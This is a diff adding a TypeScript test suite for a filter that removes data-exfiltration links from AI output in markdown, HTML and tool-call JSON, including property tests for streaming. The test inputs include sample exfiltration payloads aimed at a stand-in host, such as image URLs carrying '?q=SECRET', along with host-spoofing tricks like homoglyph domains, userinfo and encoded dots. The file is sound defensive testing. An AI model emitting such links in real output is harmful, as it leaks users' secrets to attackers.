@@ -1,0 +1,147 @@
+// Exfiltration links in output (src/detectors/links.ts): what is stripped, what stays, host
+// tricks, block mode, and the streaming property — every split of a text into chunks gives the
+// same output as the whole text, and the held-back text is only ever an undecided candidate.
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import fc from 'fast-check';
+import { filterLinks, LinkPolicy, LinkStream, type LinkRules, type LinkType } from '../../src/detectors/links.js';
+
+const rules = (over: Partial<LinkRules> = {}): LinkRules => ({ allow: ['example.com'], action: 'strip', images: true, links: true, ...over });
+const strip = new LinkPolicy(rules());
+const run = (text: string, policy = strip): { out: string | null; counts: Map<LinkType, number> } => {
+  const counts = new Map<LinkType, number>();
+  return { out: filterLinks(text, policy, counts), counts };
+};
+const out = (text: string, policy = strip): string | null => run(text, policy).out;
+
+function streamed(chunks: readonly string[], policy = strip): string | null {
+  const s = new LinkStream(policy);
+  let acc = '';
+  for (const c of chunks) {
+    const o = s.push(c);
+    if (o === null) return null;
+    acc += o;
+  }
+  const e = s.end();
+  return e === null ? null : acc + e;
+}
+
+describe('links: what is removed', () => {
+  it('markdown images to other hosts vanish, allowed hosts and subdomains stay', () => {
+    assert.equal(out('a ![x](https://evil.test/?q=SECRET) b'), 'a  b');
+    assert.equal(out('![x](https://img.example.com/a.png)'), '![x](https://img.example.com/a.png)');
+    assert.equal(out('![x](https://example.com.evil.test/a.png)'), '');
+    assert.equal(out('![x](https://notexample.com/a.png)'), '');
+    assert.equal(out('![x](<https://evil.test/a b.png> "title")'), '');
+  });
+
+  it('markdown links keep their text, reference definitions and autolinks go, bare URLs become a placeholder', () => {
+    assert.equal(out('[click here](https://evil.test/x)'), 'click here');
+    assert.equal(out('[docs](https://docs.example.com/y "t")'), '[docs](https://docs.example.com/y "t")');
+    assert.equal(out('[id]: https://evil.test/x\n![a][id]'), '\n![a][id]');
+    assert.equal(out('go <https://evil.test/x> now'), 'go [link removed] now');
+    assert.equal(out('see https://evil.test/p?x=1. Then (https://example.com/a_(b)) ok'), 'see [link removed]. Then (https://example.com/a_(b)) ok');
+    // Tool-call arguments are JSON: a URL ends at its closing quote, the JSON stays valid.
+    assert.equal(out('{"url":"https://evil.test/?q=s","n":1}'), '{"url":"[link removed]","n":1}');
+  });
+
+  it('an image nested in an allowed link is still checked, and the other way round', () => {
+    assert.equal(out('[![badge](https://evil.test/b.svg)](https://example.com)'), '[](https://example.com)');
+    assert.equal(out('[![badge](https://example.com/b.svg)](https://evil.test)'), '![badge](https://example.com/b.svg)');
+  });
+
+  it('HTML tags: img, a, srcset, style url(), entities decoded, unquoted values', () => {
+    assert.equal(out('<img src="https&#58;//evil.test/x.png" alt=1>'), '');
+    assert.equal(out('<img src=https://evil.test/x.png>'), '');
+    assert.equal(out('<a href=https://example.com>ok</a>'), '<a href=https://example.com>ok</a>');
+    assert.equal(out('<a href="javascript:alert(1)">x</a>'), 'x</a>');
+    assert.equal(out('<img srcset="https://example.com/a.png 1x, https://evil.test/b.png 2x">'), '');
+    assert.equal(out('<div style="background:url(&quot;https://evil.test/p&quot;)">hi</div>'), 'hi</div>');
+    assert.equal(out('<b>bold</b> a < b, x<y'), '<b>bold</b> a < b, x<y');
+  });
+
+  it('host tricks: userinfo, protocol-relative, backslashes, IDN, data: and javascript: schemes, escapes', () => {
+    assert.equal(out('[a](https://example.com@evil.test/x)'), 'a');
+    assert.equal(out('![x](//evil.test/a)'), '');
+    assert.equal(out('![x](https:\\\\evil.test/a)'), '');
+    assert.equal(out('![x](https://еxample.com/a)'), ''); // Cyrillic е: xn--xample-2of.com
+    assert.equal(out('![x](data:image/png;base64,AAAA)'), '');
+    assert.equal(out('[x](JaVaScRiPt:alert(1))'), 'x');
+    assert.equal(out('![x](https://evil&#46;test/a)'), '');
+    assert.equal(out('![x](https://evil\\.test/a)'), '');
+    assert.equal(out('![x](https://EXAMPLE.com./a)'), '![x](https://EXAMPLE.com./a)');
+    assert.equal(out('![x](/local.png) [y](#top) [z](page.html)'), '![x](/local.png) [y](#top) [z](page.html)');
+  });
+
+  it('IDN hosts on the allow-list match their punycode form', () => {
+    const idn = new LinkPolicy(rules({ allow: ['пример.рф'] }));
+    assert.equal(out('![x](https://xn--e1afmkfd.xn--p1ai/a.png) ![y](https://img.пример.рф/b)', idn), '![x](https://xn--e1afmkfd.xn--p1ai/a.png) ![y](https://img.пример.рф/b)');
+  });
+
+  it('prose is untouched: brackets, exclamation marks, words starting with h, http without a host', () => {
+    const t = 'Hello! array[i] = [1, 2]; the http thing, https:/ nope, hhttps://evil.test, [ref][1] and <3';
+    assert.equal(out(t), t);
+  });
+
+  it('a destination past the cap is judged by its host (fail closed)', () => {
+    const long = 'A'.repeat(5000);
+    assert.equal(out(`![x](https://evil.test/?q=${long})`)?.includes('evil.test'), false);
+    assert.equal(out(`![x](https://example.com/?q=${long})`), `![x](https://example.com/?q=${long})`);
+    assert.equal(out(`[${'t'.repeat(1200)}](https://evil.test/x)`)?.includes('evil.test'), false);
+  });
+
+  it('images: false and links: false leave that kind alone', () => {
+    const onlyLinks = new LinkPolicy(rules({ images: false }));
+    assert.equal(out('![x](https://evil.test/a) [y](https://evil.test/b)', onlyLinks), '![x](https://evil.test/a) y');
+    const onlyImages = new LinkPolicy(rules({ links: false }));
+    assert.equal(out('![x](https://evil.test/a) [y](https://evil.test/b) https://evil.test/c', onlyImages), ' [y](https://evil.test/b) https://evil.test/c');
+  });
+
+  it('block: the first disallowed construct withholds the text; counts by type', () => {
+    const block = new LinkPolicy(rules({ action: 'block' }));
+    assert.equal(out('fine ![x](https://example.com/a)', block), 'fine ![x](https://example.com/a)');
+    assert.equal(out('bad ![x](https://evil.test/a)', block), null);
+    const r = run('![a](https://evil.test/1) [b](https://evil.test/2) https://evil.test/3 <img src=x:y> [c]: https://evil.test/4');
+    assert.deepEqual(Object.fromEntries(r.counts), { image: 2, link: 1, url: 1, reference: 1 });
+  });
+});
+
+// Text made of pieces that start, end, nest and break constructs.
+const piece = fc.constantFrom(
+  '![x](https://evil.test/?q=1)', '![ok](https://cdn.example.com/i.png)', '[t](https://evil.test/a "ti")', '[t](https://example.com/a)',
+  '<img src="https://evil.test/p.png">', '<a href=https://example.com>', '<https://evil.test>', 'https://evil.test/x', 'http://example.com/y.',
+  '[id]: https://evil.test', '[', ']', '(', ')', '!', '<', '>', 'h', 'ht', 'https', '://', ' ', '\n', '\n\n', '"', "'", '=', '\\', 'word', 'é', '&#58;', 'src=', '<img ', 'x',
+);
+const text = fc.array(piece, { maxLength: 24 }).map((a) => a.join(''));
+/** A text and cut points: the chunks of one split. */
+const split = text.chain((t) => fc.uniqueArray(fc.integer({ min: 0, max: t.length }), { maxLength: 12 }).map((cuts) => {
+  const at = [0, ...cuts.sort((a, b) => a - b), t.length];
+  return { t, chunks: at.slice(1).map((e, i) => t.slice(at[i], e)) };
+}));
+
+describe('links: streaming', () => {
+  it('every split of a text gives the same output as the whole text (strip and block)', () => {
+    const block = new LinkPolicy(rules({ action: 'block' }));
+    fc.assert(fc.property(split, ({ t, chunks }) => {
+      assert.equal(streamed(chunks), out(t));
+      assert.equal(streamed(chunks, block), out(t, block));
+    }), { numRuns: 3000 });
+  });
+
+  it('one character at a time gives the same output, for texts with long constructs too', () => {
+    const t = `Here ![img](https://evil.test/${'q'.repeat(300)}) and [a [nested] link](https://example.com/x) https://evil.test <img\nsrc='https://evil.test/y'>!`;
+    assert.equal(streamed([...t]), out(t));
+  });
+
+  it('holds back only from an undecided candidate', () => {
+    const s = new LinkStream(strip);
+    assert.equal(s.push('Plain prose, no candidates at all. '), 'Plain prose, no candidates at all. ');
+    assert.equal(s.held, 0);
+    assert.equal(s.push('See ![x](https://ev'), 'See ');
+    assert.equal(s.held, '![x](https://ev'.length);
+    assert.equal(s.push('il.test/q) done'), ' done');
+    assert.equal(s.held, 0);
+    assert.equal(s.push('Hello'), 'Hello'); // 'H' after a space is undecided only while it could start http
+    assert.equal(s.end(), '');
+  });
+});
